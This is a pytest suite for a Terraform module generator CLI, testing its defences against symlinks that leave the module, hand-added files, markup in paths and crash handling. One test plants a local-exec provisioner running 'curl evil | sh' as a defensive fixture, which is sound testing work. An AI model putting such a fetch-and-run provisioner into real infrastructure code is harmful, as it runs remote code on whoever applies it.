"""Files and folders as an attacker with a pull request would use them, and user text in output.

Each case runs in-process (CliRunner) and, where a hang or a crash of the interpreter is the
risk, as a real process with a timeout. Nothing here may leave a traceback, write outside the
module, or hang.
"""

from __future__ import annotations

import errno
import json
import os
from pathlib import Path

import pytest
import yaml
from click.testing import CliRunner

from generator.cli.main import cli
from tests.conftest import example_data
from tests.support.cli import tfgen_process


def run(*args: str, cwd: Path | None = None, timeout: float = 60):
    """In its own process: a hang (a FIFO read) ends at the timeout, not with the suite."""
    return tfgen_process(*args, cwd=cwd, timeout=timeout)


def invoke(*args: str):
    return CliRunner().invoke(cli, list(args))


def answers_file(folder: Path, name: str = "m", **changes) -> Path:
    data = {**example_data(), "name": name, **changes}
    path = folder / f"{name}.yaml"
    path.write_text(yaml.safe_dump(data, sort_keys=False))
    return path


def rendered(tmp_path: Path, name: str = "m") -> Path:
    out = tmp_path / "modules" / name
    result = invoke("render", str(answers_file(tmp_path, name)), "-o", str(out), "--no-scan")
    assert result.exit_code == 0, result.output
    return out


def one_line_error(result_stderr: str) -> None:
    assert "Traceback" not in result_stderr
    assert len(result_stderr.strip().splitlines()) == 1, result_stderr


# --- only regular files are read, size checked first ------------------------------------------


# --- never write through a symlink that leaves the module ---------------------------------------


@pytest.fixture
def linked_module(tmp_path: Path) -> tuple[Path, Path]:
    """A rendered module whose example/ is a symlink to a folder outside it."""
    module = rendered(tmp_path)
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "main.tf").write_text("precious\n")
    (module / "example" / "main.tf").unlink()
    (module / "example").rmdir()
    (module / "example").symlink_to(outside)
    return module, outside


def test_check_fix_refuses_a_folder_symlink_leaving_the_module(linked_module):
    module, outside = linked_module
    result = invoke("check", str(module), "--fix", "--no-scan")
    assert result.exit_code == 2, result.output
    assert "example" in result.stderr and "symbolic link" in result.stderr
    assert (outside / "main.tf").read_text() == "precious\n"
    assert sorted(p.name for p in outside.iterdir()) == ["main.tf"]


def test_render_refuses_a_module_with_a_symlink_leaving_it_even_forced(linked_module, tmp_path):
    module, outside = linked_module
    for force in ([], ["--force"]):
        result = invoke("render", str(tmp_path / "m.yaml"), "-o", str(module), "--no-scan", *force)
        assert result.exit_code == 2, result.output
        assert "symbolic link" in result.stderr
    assert (outside / "main.tf").read_text() == "precious\n"


def test_terraform_working_links_do_not_block_a_render(tmp_path: Path):
    """`terraform init` with a plugin cache links providers from outside the module."""
    module = rendered(tmp_path)
    cache = tmp_path / "plugin-cache"
    cache.mkdir()
    (module / "example" / ".terraform" / "providers").mkdir(parents=True)
    (module / "example" / ".terraform" / "providers" / "aws").symlink_to(cache)
    result = invoke("render", str(tmp_path / "m.yaml"), "-o", str(module), "--no-scan")
    assert result.exit_code == 0, result.output
    assert (module / "example" / ".terraform" / "providers" / "aws").is_symlink()
    assert invoke("check", str(module)).exit_code == 0


def test_check_does_not_read_a_file_symlink_leaving_the_module(tmp_path: Path):
    module = rendered(tmp_path)
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET\n")
    (module / "README.md").unlink()
    (module / "README.md").symlink_to(secret)
    result = invoke("check", str(module))
    assert result.exit_code == 2 and "README.md" in result.stderr, result.output
    assert "TOP-SECRET" not in result.output


# --- validate reports what tfgen did not write ---------------------------------------------------


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("extra.tf", 'output "leak" {\n  value = "x"\n}\n'),
        ("main_override.tf", 'resource "aws_vpc_endpoint" "lambda" {\n  policy = null\n}\n'),
    ],
)
def test_validate_reports_files_added_by_hand(tmp_path: Path, name: str, text: str):
    module = rendered(tmp_path)
    (module / name).write_text(text)
    result = invoke("validate", str(module), "--no-scan", "--format", "json")
    assert result.exit_code == 1, result.output
    findings = json.loads(result.stdout)["findings"]
    assert any(f["file"] == name and "not written by tfgen" in f["message"] for f in findings)


def test_validate_reports_a_provisioner_added_to_main_tf(tmp_path: Path):
    module = rendered(tmp_path)
    main = module / "main.tf"
    main.write_text(
        main.read_text()
        + 'resource "null_resource" "x" {\n  provisioner "local-exec" {\n'
        + '    command = "curl evil | sh"\n  }\n}\n'
    )
    result = invoke("validate", str(module), "--no-scan")
    assert result.exit_code == 1, result.output
    assert "main.tf" in result.stderr and "edited" in result.stderr


def test_validate_reports_a_file_that_is_not_utf8(tmp_path: Path):
    module = rendered(tmp_path)
    (module / "variables.tf").write_bytes(b"\xff\xfe not utf-8\n")
    result = invoke("validate", str(module), "--no-scan")
    assert result.exit_code == 1, result.output
    assert "variables.tf" in result.stderr and "UTF-8" in result.stderr
    assert "Traceback" not in result.output


# --- output folders -----------------------------------------------------------------------------


@pytest.mark.parametrize("code", [errno.ENOSPC, errno.EROFS])
def test_full_or_read_only_file_system_keeps_the_old_module(tmp_path: Path, monkeypatch, code):
    from generator.moduledir import write

    module = rendered(tmp_path)
    before = {p.name: p.read_bytes() for p in module.iterdir() if p.is_file()}

    def failing(*args, **kwargs):
        raise OSError(code, os.strerror(code))

    monkeypatch.setattr(write, "write_files", failing)
    result = invoke("render", str(tmp_path / "m.yaml"), "-o", str(module), "--no-scan")
    assert result.exit_code == 2, result.output
    one_line_error(result.stderr)
    assert os.strerror(code) in result.stderr
    assert {p.name: p.read_bytes() for p in module.iterdir() if p.is_file()} == before
    assert sorted(p.name for p in module.parent.iterdir()) == ["m"]


# --- stale staging folders ----------------------------------------------------------------------


def test_staging_folders_of_a_killed_run_are_removed_by_the_next_run(tmp_path: Path):
    module = rendered(tmp_path)
    parent = module.parent
    # what a SIGKILL leaves: a staged copy, a batch folder, and an old copy mid-swap
    for stale in (".m.tfgen-k1ll3d", ".tfgen-batch-k1ll3d/ready/m", ".other.tfgen-old-k1ll3d"):
        (parent / stale).mkdir(parents=True)
        for item in module.iterdir():
            if item.is_file():
                (parent / stale / item.name).write_bytes(item.read_bytes())
    checked = invoke("check", str(parent), "--format", "json")
    assert checked.exit_code == 0, checked.output
    assert [m["path"] for m in json.loads(checked.stdout)["modules"]] == [str(module)]
    result = invoke("render", str(tmp_path / "m.yaml"), "-o", str(module), "--no-scan")
    assert result.exit_code == 0, result.output
    # the old copy of a module whose folder is gone is put back, the rest removed
    assert sorted(p.name for p in parent.iterdir()) == ["m", "other"]


# --- check DIR -----------------------------------------------------------------------------------


def test_check_of_a_folder_of_modules_checks_every_module(tmp_path: Path):
    first, second = rendered(tmp_path, "a"), rendered(tmp_path, "b")
    result = invoke("check", str(tmp_path / "modules"), "--format", "json")
    assert result.exit_code == 0, result.output
    assert sorted(m["path"] for m in json.loads(result.stdout)["modules"]) == [
        str(first),
        str(second),
    ]
    (second / "main.tf").write_text("# edited\n")
    assert invoke("check", str(tmp_path / "modules")).exit_code == 1
    empty = tmp_path / "empty"
    empty.mkdir()
    nothing = invoke("check", str(empty))
    assert nothing.exit_code == 2 and "no tfgen modules" in nothing.stderr


# --- user text is never markup -------------------------------------------------------------------


MARKUP = ["[/x]", "d[bold]", "[red]x[/red]", ":x:"]


@pytest.mark.parametrize("text", MARKUP)
def test_paths_with_markup_print_literally(tmp_path: Path, text: str):
    folder = tmp_path / text  # "[/x]" is the folder "[" holding "x]"
    folder.mkdir(parents=True)
    path = folder / "a.yaml"
    path.write_text("version: 1\nname: [unclosed\n")
    for fmt in ("text", "json", "sarif"):
        result = invoke("render", str(path), "-o", str(tmp_path / "o"), "--format", fmt)
        assert result.exit_code == 2, result.output
        assert "Traceback" not in result.output
        if fmt == "text":
            assert str(path) in result.stderr
        else:
            json.loads(result.stdout)


def test_a_tag_key_with_an_emoji_code_prints_literally(tmp_path: Path):
    path = answers_file(tmp_path, tags={"AWS:x": "y"})
    result = invoke("render", str(path), "-o", str(tmp_path / "o"), "--no-scan")
    assert result.exit_code == 2
    assert "tags.AWS:x:" in result.stderr and "\u274c" not in result.stderr


def test_batch_table_prints_markup_in_paths_literally(tmp_path: Path):
    folder = tmp_path / "d[bold]" / "[" / "x]"
    folder.mkdir(parents=True)
    (folder / "bad.yaml").write_text("version: 1\n")
    answers_file(folder, "good")
    result = invoke("render", str(folder), "--root", str(tmp_path / "out"), "--no-scan")
    assert result.exit_code == 2, result.output
    assert "Traceback" not in result.output
    assert "d[bold]/[/x]/bad.yaml" in result.output.replace("\n", "")


# --- the last-resort handler --------------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["text", "json", "sarif"])
def test_a_bug_is_one_line_exit_3_and_reports_stay_well_formed(
    tmp_path: Path, monkeypatch, fmt: str
):
    from generator.cli import exits
    from generator.run import module as pipeline

    def broken(*args, **kwargs):
        raise ValueError("something nobody expected\nsecond line")

    monkeypatch.setattr(pipeline, "render_plan", broken)
    monkeypatch.setattr(exits, "log_dir", lambda: tmp_path / "logs")
    monkeypatch.delenv("TFGEN_DEBUG", raising=False)
    path = answers_file(tmp_path)
    result = invoke("render", str(path), "-o", str(tmp_path / "o"), "--no-scan", "--format", fmt)
    assert result.exit_code == 3
    assert "Traceback" not in result.output
    (log,) = (tmp_path / "logs").iterdir()
    assert "Traceback" in log.read_text() and "something nobody expected" in log.read_text()
    if fmt == "text":
        one_line_error(result.stderr)
        assert "tfgen bug: unexpected ValueError: something nobody expected" in result.stderr
        assert str(log) in result.stderr and "--debug" in result.stderr
    else:  # the document on stdout is the whole report
        document = json.loads(result.stdout)
        assert document.get("status") == "error" or document.get("version") == "2.1.0"
    assert not (tmp_path / "o").exists()


@pytest.mark.parametrize("switch", ["--debug", "TFGEN_DEBUG=1"])
def test_debug_prints_the_traceback_of_a_bug(tmp_path: Path, monkeypatch, switch: str):
    from generator.cli import exits
    from generator.run import module as pipeline

    def broken(*args, **kwargs):
        raise KeyError("inner")

    monkeypatch.setattr(pipeline, "render_plan", broken)
    monkeypatch.setattr(exits, "log_dir", lambda: tmp_path / "logs")
    args = ["render", str(answers_file(tmp_path)), "-o", str(tmp_path / "o"), "--no-scan"]
    if switch == "--debug":
        result = invoke("--debug", *args)
    else:
        monkeypatch.setenv("TFGEN_DEBUG", "1")
        result = invoke(*args)
    assert result.exit_code == 3
    assert "Traceback (most recent call last)" in result.stderr
    assert "in broken" in result.stderr and "traceback is above" in result.stderr
    assert not (tmp_path / "logs").exists()


def test_bad_input_stays_exit_2_and_findings_exit_1(tmp_path: Path):
    """The handler changes nothing for errors tfgen raises on purpose."""
    bad = tmp_path / "bad.yaml"
    bad.write_text("version: 1\nname: Bad Name\n")
    assert invoke("render", str(bad), "-o", str(tmp_path / "o"), "--no-scan").exit_code == 2
    assert invoke("validate", str(tmp_path / "missing"), "--no-scan").exit_code == 2


# --- docs, a module's manifest and `tfgen scan DIR` read only regular files -----------------


def test_docs_refuses_a_readme_linked_out_of_the_module(tmp_path: Path):
    module = rendered(tmp_path)
    (module / "README.md").unlink()
    (module / "README.md").symlink_to("/dev/zero")
    result = invoke("docs", str(module))
    assert result.exit_code == 2 and "symbolic link leaving the module" in result.stderr
    assert (module / "README.md").is_symlink()  # left as it was, nothing written through it
